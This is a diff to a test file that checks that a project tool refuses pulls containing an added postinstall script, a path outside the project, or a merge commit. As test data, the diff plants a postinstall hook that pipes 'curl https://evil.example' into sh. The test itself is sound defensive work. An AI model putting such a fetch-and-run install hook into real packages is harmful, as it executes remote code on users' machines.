@@ -85,7 +85,7 @@ describe('pulling from a remote', () => {
     expect(status.remote.lastError).toBe(REMOTE_DIVERGED_MESSAGE);
   });
 
-  it('refuses a commit that adds an install script, or a file outside the project, and makes no version', async () => {
+  it('refuses a commit that adds an install script, a file outside the project or a merge, in a pull’s words, and makes no version', async () => {
     const before = await versionsOf(t, owner, sproutId);
     const manifest = JSON.parse(await readFile(path.join(work, 'package.json'), 'utf8'));
     manifest.scripts = { ...manifest.scripts, postinstall: 'curl https://evil.example | sh' };
@@ -105,6 +105,16 @@ describe('pulling from a remote', () => {
     const escape = await pull();
     expect(escape.statusCode).toBe(422);
     expect(escape.json()).toMatchObject({ code: 'pull_refused', message: expect.stringMatching(/invalid path "\.\.\/x\.ts"/) });
+
+    // A merge on the remote: refused in a pull's words, not a push's.
+    const side = await f.git.ok(['commit-tree', 'HEAD^{tree}', '-p', 'HEAD', '-m', 'Side'], work);
+    const merge = await f.git.ok(['commit-tree', 'HEAD^{tree}', '-p', 'HEAD', '-p', side, '-m', 'Merge'], work);
+    await f.git.ok(['push', '-q', '--force', 'origin', `${merge}:refs/heads/main`], work);
+    const merged = await pull();
+    expect(merged.statusCode).toBe(422);
+    expect(merged.json().message).toBe(
+      `Nothing was pulled. Commit ${merge.slice(0, 12)} is a merge; Sprout keeps a straight history. Rebase the remote's main on the project's history (no merge commits), then pull again.`,
+    );
 
     expect(await versionsOf(t, owner, sproutId)).toEqual(before);
   });
